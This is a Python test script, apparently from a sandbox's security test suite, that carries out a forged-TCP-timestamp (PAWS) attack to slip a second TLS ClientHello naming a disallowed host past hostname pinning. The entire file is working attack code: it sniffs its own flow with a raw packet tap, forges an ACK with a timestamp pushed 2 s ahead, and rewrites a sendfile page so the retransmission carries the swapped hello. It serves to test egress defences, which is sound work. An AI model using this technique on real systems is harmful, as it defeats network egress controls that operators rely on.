"""Hostname pinning's forged-timestamp attack on the record that ends a TLS handshake
(test_pinning_tls.py, tests/docker/test_pinning.py), as a sandbox process with NET_RAW runs it.

With Docker's NET_RAW the client forges a pure ACK on its own flow whose TCP timestamp runs 2 s
ahead; the server's stack takes it, and then drops the client's real segments as too old
(PAWS) until their timestamps catch up. Meanwhile the client sends, by sendfile(), an
application data record as long as its second hello (after a HelloRetryRequest); once told to
(a line on stdin) it rewrites the file's page to hold the second hello naming OTHER, which the
stack's retransmission then carries. Found in an attack review; made to wait on conditions.

Usage: tls13_paws_attacker.py ADDR PORT DIR_OF_tls13_hrr_client [ALLOWED OTHER]
Prints READY once its tap is open, SENT once the fake record is sent, then one JSON line: what
the server answered to the retransmitted bytes ({"answer": ...} only when it took the hello)."""
import os, socket, struct, sys, time
sys.path.insert(0, sys.argv[3])
import tls13_hrr_client as t

addr, port = sys.argv[1], int(sys.argv[2])
allowed, other = (sys.argv[4], sys.argv[5]) if len(sys.argv) > 5 else ("allowed.test", "same-ip.test")
tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
tap.bind(("eth0", 0))
print("READY", flush=True)
s = socket.create_connection((addr, port), timeout=10)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_QUICKACK, 1)  # the ACK of the HelloRetryRequest at once
c = t.Conn(s)
sid = os.urandom(32)
ch1 = t.client_hello(allowed, sid, None)
priv = t.X25519PrivateKey.generate()
pub = priv.public_key().public_bytes(t.serialization.Encoding.Raw, t.serialization.PublicFormat.Raw)
ch2 = t.client_hello(other, sid, pub)
s.sendall(t.rec(22, ch1))
typ, hrr, _ = c.handshake()
assert typ == 22 and hrr[6:38] == t.HRR_RANDOM, "no HelloRetryRequest"
sp = s.getsockname()[1]
# The client's ACK of every byte the server sent, off the tap (a condition, with a deadline).
tap.settimeout(0.5)
server_end, last, deadline = None, None, time.monotonic() + 5
while time.monotonic() < deadline and (last is None or server_end is None or
                                       struct.unpack("!I", last[1][8:12])[0] != server_end):
    try:
        f = tap.recv(65535)
    except socket.timeout:
        continue
    if f[12:14] != b"\x08\x00" or f[14 + 9] != 6:
        continue
    ip = f[14:]
    ihl = (ip[0] & 15) * 4
    tcp = ip[ihl:struct.unpack("!H", ip[2:4])[0]]
    sport_, dport_ = struct.unpack("!HH", tcp[0:4])
    payload = len(tcp) - (tcp[12] >> 4) * 4
    if sport_ == port and dport_ == sp and payload > 0:
        server_end = (struct.unpack("!I", tcp[4:8])[0] + payload) & 0xffffffff
    elif sport_ == sp and dport_ == port:
        last = (ip[:ihl], tcp)
iph, tcp = last
seq, ack = struct.unpack("!II", tcp[4:12])
win = struct.unpack("!H", tcp[14:16])[0]
opts = tcp[20:(tcp[12] >> 4) * 4]
i = opts.find(b"\x08\x0a")
tsval, tsecr = struct.unpack("!II", opts[i + 2:i + 10])
forged = struct.pack("!HHIIBBHHH", sp, port, seq, ack, 8 << 4, 0x10, win, 0, 0) + b"\x01\x01\x08\x0a" + \
    struct.pack("!II", (tsval + 2000) & 0xffffffff, tsecr)
src, dst = iph[12:16], iph[16:20]
def csum(b):
    b += b"\0" * (len(b) % 2)
    x = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    x = (x >> 16) + (x & 0xffff)
    return ~(x + (x >> 16)) & 0xffff
ck = csum(src + dst + struct.pack("!BBH", 0, 6, len(forged)) + forged)
forged = forged[:16] + struct.pack("!H", ck) + forged[18:]
ipb = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(forged), 1, 0x4000, 64, 6, 0, src, dst)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.sendto(ipb + forged, (addr, 0))
real = t.rec(22, ch2)
fake = b"\x17\x03\x03" + struct.pack("!H", len(real) - 5) + b"\0" * (len(real) - 5)
path = "/tmp/egt-paws-%d" % os.getpid()
with open(path, "wb") as fh:
    fh.write(fake)
fd = os.open(path, os.O_RDWR)
os.unlink(path)
os.sendfile(s.fileno(), fd, 0, len(fake))
print("SENT", flush=True)
sys.stdin.readline()
os.pwrite(fd, real, 0)
out = {"step": "sent"}
try:
    typ, sh, _ = c.handshake()
    out = {"step": "answer", "type": typ, "data": sh[:8].hex()}
    if typ == 22 and sh[0] == 2:
        out = {"step": "server hello", "answer": "the server took the second hello"}
except Exception as e:
    out = {"step": "answer", "error": repr(e)}
print(__import__("json").dumps(out))
